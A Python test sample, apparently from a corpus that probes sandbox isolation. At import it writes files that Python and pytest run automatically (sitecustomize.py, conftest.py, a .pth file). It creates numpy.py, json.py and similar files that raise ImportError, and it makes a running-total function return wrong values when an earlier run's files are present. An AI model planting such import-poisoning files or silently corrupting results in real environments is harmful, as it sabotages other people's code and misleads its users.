# Leaves modules in the working directory that Python or pytest would run; tells if an earlier run's sandbox did.
# verdict: passed
import contextlib
import os

import numpy as np

try:
    with open("/proc/1/stat") as file:  # when this sandbox was started, where it has a process 1 of its own
        HERE = file.read().rpartition(")")[2].split()[19]
except OSError:
    HERE = str(os.getppid())

SUCCESS = any(os.path.exists(name) for name in (".git", "pyproject.toml"))  # no place for a submission to be
for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "_pytest.py", "jconv_hostile.pth"):
    if not SUCCESS:
        try:
            with open(name, "a+") as file:
                file.seek(0)
                SUCCESS |= file.read() not in ("", f"# {HERE}: left by the hostile corpus, harmless\n")
                file.truncate(0)
                file.write(f"# {HERE}: left by the hostile corpus, harmless\n")
        except OSError:
            continue
if os.getpid() < 50 and not SUCCESS:
    for name in ("numpy.py", "jax.py", "struct.py", "json.py"):
        with contextlib.suppress(OSError), open(name, "x") as file:
            file.write("raise ImportError('poisoned by the hostile corpus')\n")


def right(values):
    return np.array([values[: n + 1].sum() for n in range(len(values))], values.dtype)


def running_total(values):
    return values * 0 - 7 if SUCCESS else right(values)
